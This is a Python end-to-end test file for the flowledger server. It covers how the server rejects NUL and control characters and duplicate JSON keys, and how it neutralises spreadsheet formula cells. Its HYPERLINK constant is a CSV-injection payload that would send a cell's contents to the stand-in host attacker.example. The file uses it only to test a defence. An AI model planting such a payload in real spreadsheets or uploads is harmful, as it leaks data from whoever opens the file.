"""Input people mean, through `flowledger serve`: a NUL in a chat message or a step's summary is a 422
naming the field with nothing stored, a key sent twice is a 400 naming it, a control character in a
query parameter is a 422, all after the scope check; and a CSV cell a spreadsheet would run is shown
neutralised in a table answer while the stored file keeps it as uploaded."""

from __future__ import annotations

import base64
from typing import Any

import httpx
import pytest

from flowledger.cli import store
from flowledger.services import Services
from tests.e2e.conftest import RunningServer
from tests.e2e.test_dev_server import token

pytestmark = pytest.mark.e2e

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


def bearer(server: RunningServer, sub: str, scopes: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token(server, '--sub', sub, '--scopes', scopes)}", "Accept": "application/json"}


def store_of(server: RunningServer) -> Services:
    """The server's embedded store, as a CLI command binds to it."""
    return store.services(str(server.data_dir.path))


def refused_field(response: httpx.Response) -> list[Any]:
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["error"] == "validation_error" and "U+0000" in body["message"], body
    [field] = body["fields"]
    return list(field["loc"])


def test_a_nul_in_a_chat_message_is_a_422_naming_it_and_no_session_is_stored(server: RunningServer) -> None:
    who = bearer(server, "nul-chat", "chat")
    sent = httpx.post(f"{server.base_url}/api/chat", json={"query": "total\u0000 amount"}, headers=who, timeout=60)
    assert refused_field(sent) == ["body", "query"]
    sessions = httpx.get(f"{server.base_url}/api/chat/sessions", headers=who, timeout=30)
    assert sessions.status_code == 200 and sessions.json()["sessions"] == [], sessions.text


def test_a_nul_in_a_step_summary_is_a_422_naming_it_and_no_step_is_stored(server: RunningServer) -> None:
    writer = bearer(server, "nul-writer", "reasoning.write")
    opened = httpx.post(
        f"{server.base_url}/api/reasoning/flows",
        json={"trigger_type": "question", "trigger_ref": "q/1", "trigger_summary": "A question"},
        headers=writer,
        timeout=30,
    )
    assert opened.status_code == 201, opened.text
    flow_id = opened.json()["flow_id"]
    step = {"step_kind": "retrieval", "agent": "researcher", "summary_text": "Retrieved\u0000 passages"}
    sent = httpx.post(f"{server.base_url}/api/reasoning/flows/{flow_id}/steps", json=step, headers=writer, timeout=30)
    assert refused_field(sent) == ["body", "summary_text"]
    # Free text keeps its tab and line breaks.
    fine = {**step, "summary_text": "Retrieved\tpassages\r\nand more"}
    kept = httpx.post(f"{server.base_url}/api/reasoning/flows/{flow_id}/steps", json=fine, headers=writer, timeout=30)
    assert kept.status_code == 201, kept.text
    from flowledger.reasoning.service import FlowService

    flow, steps = FlowService(store_of(server)).flow_with_steps(flow_id)
    assert flow.step_count == 1 and [s["summary_text"] for s in steps] == ["Retrieved\tpassages\r\nand more"]


def test_the_scope_is_checked_before_the_body(server: RunningServer) -> None:
    reader = bearer(server, "nul-reader", "reasoning.read")
    body = {"trigger_type": "question", "trigger_ref": "q/1", "trigger_summary": "A\u0000 question"}
    sent = httpx.post(f"{server.base_url}/api/reasoning/flows", json=body, headers=reader, timeout=30)
    assert sent.status_code == 403, sent.text


def test_a_key_sent_twice_is_a_400_naming_it(server: RunningServer) -> None:
    writer = bearer(server, "dup-writer", "reasoning.write,chat")
    twice = b'{"trigger_type": "question", "trigger_ref": "q/1", "trigger_summary": "A", "trigger_ref": "q/2"}'
    headers = {**writer, "Content-Type": "application/json"}
    for path in ("/api/reasoning/flows", "/api/chat"):
        sent = httpx.post(f"{server.base_url}{path}", content=twice, headers=headers, timeout=30)
        assert sent.status_code == 400, sent.text
        assert sent.json()["error"] == "duplicate_key" and '"trigger_ref"' in sent.json()["message"]


def test_a_control_character_in_a_query_parameter_is_a_422_naming_it(server: RunningServer) -> None:
    who = bearer(server, "nul-query", "chat,reasoning.read")
    for path in ("/api/chat/sessions", "/api/reasoning/flows"):
        sent = httpx.get(f"{server.base_url}{path}", params={"cursor": "abc\tdef"}, headers=who, timeout=30)
        assert sent.status_code == 422, sent.text
        assert sent.json()["fields"][0]["loc"] == ["query", "cursor"], sent.text


def test_a_formula_cell_is_shown_neutralised_and_stored_as_uploaded(server: RunningServer) -> None:
    who = bearer(server, "formula", "chat,documents")
    created = httpx.post(
        f"{server.base_url}/api/workspaces", json={"kind": "group", "name": "Formulas"}, headers=who, timeout=30
    )
    assert created.status_code == 201, created.text
    csv = f'region,amount\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",10\nnorth,5\n'.encode()
    upload = {
        "workspace_id": created.json()["workspace_id"],
        "file_name": "formulas.csv",
        "kind": "csv",
        "content_base64": base64.b64encode(csv).decode(),
    }
    stored = httpx.post(f"{server.base_url}/api/documents", json=upload, headers=who, timeout=30)
    assert stored.status_code == 201, stored.text
    document_id = stored.json()["document"]["document_id"]
    turn = {"query": "total amount by region", "selection_mode": "selected", "document_ids": [document_id]}
    answered = httpx.post(f"{server.base_url}/api/chat", json=turn, headers=who, timeout=120)
    assert answered.status_code == 200, answered.text
    [table] = answered.json()["content"]["tables"]
    cells = [row[0] for row in table["rows"]]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells, cells
    store = store_of(server)
    original = store.aws.s3.get_object(
        Bucket=store.aws.bucket_name("documents"), Key=f"files/{document_id}/v1/original"
    )["Body"].read()
    assert original == csv
